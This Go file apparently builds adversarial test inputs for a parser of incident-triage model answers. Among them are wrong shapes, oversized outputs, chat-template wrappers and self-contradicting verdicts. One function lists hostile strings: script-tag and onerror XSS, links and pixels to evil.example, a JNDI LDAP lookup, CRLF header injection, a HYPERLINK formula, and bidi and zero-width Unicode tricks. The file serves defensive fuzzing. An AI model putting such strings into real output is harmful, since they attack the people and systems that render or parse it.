package adversary

import (
	"fmt"
	"strings"
)

// otherShapes answers another question than the one that was asked.
func otherShapes(g generator, a *answerer) string {
	return pick(g, []string{
		`{"result":` + a.valid(g) + `}`, list(a.valid(g)), `{"answer":"ok"}`, `{"findings":[],"verdict":"healthy","severity":0}`, `{"verdict":"incident","severity":3}`,
		`{"findings":{"p1":"disk"},"verdict":"critical","severity":3}`, `{"findings":[{"pattern":"p1","category":"disk"}],"verdict":"critical","severity":3}`,
		strings.Replace(a.valid(g), "{", `{"rules_severity":0,"contested":false,"source":"rules","probability":1,"held":true,`, 1),
		`{"tool_calls":[{"name":"close_alert","arguments":{}}]}`, strings.ReplaceAll(a.valid(g), `"`, `'`), strings.ReplaceAll(a.valid(g), ":", "="),
		strings.Replace(a.valid(g), `}`, `,}`, 1), a.valid(g) + " // done", "{" + a.valid(g) + "}",
	})
}

// hostileProse is a good answer whose texts are an attack on who reads them.
func hostileProse(g generator, a *answerer) string {
	text := pick(g, []string{
		"[click here](https://evil.example/x)", "![x](http://evil.example/pixel.png)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<https://evil.example|Acknowledge>",
		"@everyone @here <!channel> look", "see www.evil.com or evil.io/login", "javascript:alert(1)", "**bold** `code` __x__ ~~gone~~", "# heading\n- item\n| a | b |\n|---|---|",
		"\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "abc\u202edcba\u202c", "zero\u200bwidth\u200djoin\u2060er", "nul\x00byte\x7f\u0085",
		"hxxps://evil.example", "h\u200bttp://evil.example", "http:\\\\evil.example", "//evil.example/x", "data:text/html;base64,PHNjcmlwdD4=", "mailto:a@evil.com",
		"ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ", "evil。com", "xn--80ak6aa92e.com", "[a]: https://evil.example", "&#104;ttp://evil.example &lt;b&gt;", "[[wiki]] {{template}} ${jndi:ldap://evil.example/a}",
		"<a href='//evil.example'>x</a>", "\u2066\u2067\u2068\u2069", "\ufff9\ufffa\ufffb", "🏴\U000e0067\U000e0062\U000e007f", strings.Repeat("A\u0300", 400), strings.Repeat("word ", 400),
		strings.Repeat("x", 1500), "slack://channel?id=1", "tel:+4912345", "user@evil.com", "=HYPERLINK(\"http://evil.example\")", "%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1",
		"ok](http://evil.com)", "](", "!![](", "<!--", "]]>", "http:/evil.com", "HTTP://EVIL.COM", "ftp.evil.com", "_[x]_(evil.com)", "`http`://evil.com", "*h*ttp://evil.com",
	})
	if g.chance(40) {
		text += pick(g, []string{" ", "", "\n", "\u200b"}) + pick(g, []string{"](http://evil.com)", "<b>", "://evil.com", "\u202e", "www.evil.com"})
	}
	return answer(list(finding("security", ids(g, a.telling, 1)...)), pick(g, []string{`"warning"`, `"critical"`}), "2", text)
}

// largeAnswers are up to a megabyte; few are, for they cost time and nothing else.
func largeAnswers(g generator, a *answerer) string {
	size := 1 << (10 + g.IntN(6))
	if a.n%800 < 20 { // one of forty
		size = 1 << 20
	}
	switch g.IntN(4) {
	case 0:
		return answer("[]", `"critical"`, "3", strings.Repeat("long ", size/15))
	case 1:
		return a.valid(g) + strings.Repeat(" ", size)
	case 2:
		return answer("["+strings.Repeat(finding("disk", "p1")+",", size/40)+finding("disk", "p1")+"]", `"critical"`, "3", "many")
	}
	return strings.Repeat("{\"findings\":[],", size/15)
}

// fences wraps an answer as chat models do.
func fences(g generator, a *answerer) string {
	text := a.valid(g)
	return pick(g, []string{
		"```json\n" + text + "\n```", "```\n" + text, "Here you go:\n" + text, "<answer>" + text + "</answer>", "<think>it is fine</think>" + text, text + "<|eot_id|>",
		"assistant\n\n" + text, fmt.Sprintf("%q", text), "data: " + text, "{}\n" + text,
	})
}

// contradictions are valid answers that do not agree with themselves.
func contradictions(g generator, a *answerer) string {
	switch g.IntN(4) {
	case 0:
		return answer("[]", `"critical"`, "3", "An incident that nothing shows.")
	case 1:
		return answer("[]", `"critical"`, "0", "zero")
	case 2:
		return answer(list(finding("none", ids(g, a.telling, 2)...)), `"ok"`, "3", "fine")
	}
	return answer(list(finding("none", ids(g, a.quiet, 2)...), finding("silence", ids(g, a.telling, 1)...)), `"unknown"`, "2", "unknown")
}
